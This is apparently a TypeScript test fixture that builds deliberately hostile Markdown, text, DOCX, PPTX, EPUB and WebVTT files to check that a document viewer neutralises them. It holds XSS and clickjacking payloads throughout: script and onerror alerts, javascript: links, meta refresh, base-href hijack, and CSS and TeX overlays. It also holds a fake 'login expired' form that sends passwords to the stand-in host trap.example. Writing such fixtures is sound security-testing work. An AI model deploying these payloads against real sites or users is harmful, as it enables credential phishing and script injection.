import { strFromU8, strToU8, unzipSync, zipSync } from 'fflate';
import { docxOf } from '#server/demo/library/files/document-file.ts';
import { pptxOf } from '#server/demo/library/files/slides-file.ts';
import { epubOf } from '#server/demo/library/files/text-files.ts';

/** Where everything that is hostile wants to lead to. */
export const trap = 'trap.example';
/** Honest words in each of the files. */
export const honest = '这一段是正文';
/** Words of the link that stands in each of the files, to `https://trap.example/login`. */
export const lure = '登录平台';

/** Wants to lie over the page, to ask somebody, to take a password, to lead away. */
const traps = `<style>body, main, header { background: rgb(255, 0, 0) !important } main > * { display: none }
  .cover { position: fixed; inset: 0; z-index: 2147483647; background: url(https://${trap}/style.png) }</style>
<div class="cover" id="root" style="position:fixed;inset:0;z-index:2147483647;background:#f00 url(https://${trap}/attribute.png)">登录已过期
<form action="https://${trap}/password"><input name="password" autofocus="autofocus"/><button>登录</button></form></div>
<dialog open="open" style="position:fixed;inset:0">登录已过期</dialog><div popover="auto" id="over">登录已过期</div>
<button popovertarget="over" autofocus="autofocus">继续</button>
<img src="https://${trap}/picture.png" onerror="alert(1)" alt="外图"/><video src="https://${trap}/film.mp4" autoplay="autoplay"></video>
<iframe src="https://${trap}/frame"></iframe><object data="https://${trap}/object"></object>
<link rel="stylesheet" href="https://${trap}/style.css"/><base href="https://${trap}/"/>
<meta http-equiv="refresh" content="0;url=https://${trap}/refresh"/><script>alert(2)</script>
<svg xmlns="http://www.w3.org/2000/svg"><image href="https://${trap}/drawing.png"/><script>alert(3)</script></svg>
<p><a href="javascript:alert(4)">不会运行</a> <a href="/account/logout">不会退出</a> <a href="//${trap}/slash">不会离开</a></p>`;

const link = `<p>${honest}：<a href="https://${trap}/login" target="_top" style="position:fixed;inset:0">${lure}</a></p>`;
/** TeX that would run, fetch, restyle, or write far outside its line. */
const formulas = [
  String.raw`\href{javascript:alert(5)}{x}`,
  String.raw`\includegraphics{https://${trap}/formula.png}`,
  String.raw`\htmlStyle{position:fixed;inset:0;background:red}{y}`,
  String.raw`\kern{-200em}\rule{200em}{200em}`,
  String.raw`\raisebox{300em}{z}`,
  String.raw`\hskip{-300em}\colorbox{red}{登录已过期}`,
];

/** Rich text as it could stand in the database, had nobody cleaned it. */
export const hostileHtml = `${traps}${link}<p>${formulas.map((tex) => `<span data-formula="${tex}"></span>`).join('')}</p>`;

const text = { title: '讲义', parts: [{ heading: '一', lines: [honest] }] };

/** An archive with some of its parts written anew. */
function rewritten(bytes: Uint8Array | string, parts: Record<string, (before: string) => string>): Uint8Array {
  const files = unzipSync(bytes as Uint8Array);
  for (const [path, write] of Object.entries(parts))
    files[path] = strToU8(write(files[path] ? strFromU8(files[path]) : ''));
  return zipSync(files);
}

const relations = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships';
const hyperlink = (id: string, target: string) =>
  `<Relationship Id="${id}" Type="${relations}/hyperlink" Target="${target}" TargetMode="External"/>`;

/** A font whose name goes on as a style sheet, a link to the trap, one into the text, a page of HTML of its own. */
const word = () =>
  rewritten(docxOf(text, null), {
    'word/document.xml': (before) =>
      before.replace(
        '<w:sectPr>',
        `<w:p><w:r><w:rPr><w:rFonts w:ascii="x;} body{position:fixed;inset:0;background:url(https://${trap}/font.png)} a{"/></w:rPr><w:t>${honest}</w:t></w:r></w:p>
           <w:p><w:hyperlink r:id="rId7"><w:r><w:t>${lure}</w:t></w:r></w:hyperlink></w:p>
           <w:p><w:hyperlink r:id="rId8"><w:r><w:t>不会运行</w:t></w:r></w:hyperlink></w:p>
           <w:p><w:hyperlink w:anchor="end"><w:r><w:t>到文末</w:t></w:r></w:hyperlink></w:p>
           <w:altChunk r:id="rId9"/><w:p><w:bookmarkStart w:id="1" w:name="end"/><w:r><w:t>文末</w:t></w:r></w:p><w:sectPr>`,
      ),
    'word/_rels/document.xml.rels': () =>
      `<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">${hyperlink('rId7', `https://${trap}/login`)}${hyperlink('rId8', 'javascript:alert(6)')}<Relationship Id="rId9" Type="${relations}/aFChunk" Target="chunk.html"/></Relationships>`,
    'word/chunk.html': () => `<html><body>${traps}<p>附页</p></body></html>`,
  });

const slides = () =>
  rewritten(pptxOf(text, honest, '14568F', 0), {
    'ppt/slides/slide1.xml': (before) =>
      before.replaceAll('</a:rPr>', '<a:hlinkClick r:id="rId7"/></a:rPr>').replace('>讲义<', `>${lure}<`),
    'ppt/slides/_rels/slide1.xml.rels': (before) =>
      before.replace('</Relationships>', `${hyperlink('rId7', `https://${trap}/login`)}</Relationships>`),
  });

const book = () =>
  rewritten(epubOf(text, 'hostile'), {
    'OEBPS/chapter-1.xhtml': (before) => before.replace('</body>', `${traps}${link}</body>`),
  });

const captions = `WEBVTT

STYLE
::cue { background: url(https://${trap}/cue.png); position: fixed }

00:00.000 --> 09:00.000 line:-900% position:0% size:900%
<c.cover>${honest}</c><img src="https://${trap}/cue-picture.png" onerror="alert(7)"> ${traps.replaceAll(/\n+/g, ' ')}
`;

/** One file of each kind that the product shows, each as hostile as its format allows, by name. */
export const hostileFiles = async (): Promise<ReadonlyMap<string, Uint8Array | string>> =>
  new Map<string, Uint8Array | string>([
    [
      '讲义.md',
      `# 讲义\n\n${traps}\n\n${honest}：[${lure}](https://${trap}/login)\n\n![外图](https://${trap}/markdown.png)\n`,
    ],
    ['讲义.txt', `${honest}\n${traps}${link}`],
    ['讲义.docx', word()],
    ['讲义.pptx', slides()],
    ['讲义.epub', book()],
    ['讲义.vtt', captions],
  ]);
